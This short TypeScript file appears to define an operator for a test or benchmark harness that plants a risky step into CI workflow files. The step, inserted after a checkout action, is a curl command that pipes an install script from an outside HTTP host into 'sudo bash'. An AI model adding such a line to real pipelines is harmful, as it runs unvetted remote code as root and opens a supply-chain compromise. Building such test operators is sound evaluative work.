import type { Operator } from '../operator.ts';
import { firstMatch } from '../places.ts';
import { below, isWorkflow } from '../definitions.ts';

export default {
  title: 'Install a tool in the pipeline',
  checkers: [8],
  plant(tree) {
    const place = firstMatch(tree, isWorkflow, /^ +- uses: actions\/checkout@.*$/u);
    return place === null ? null : below(place, '- run: curl -s http://get.acme-tools.net/install.sh | sudo bash');
  },
} satisfies Operator;
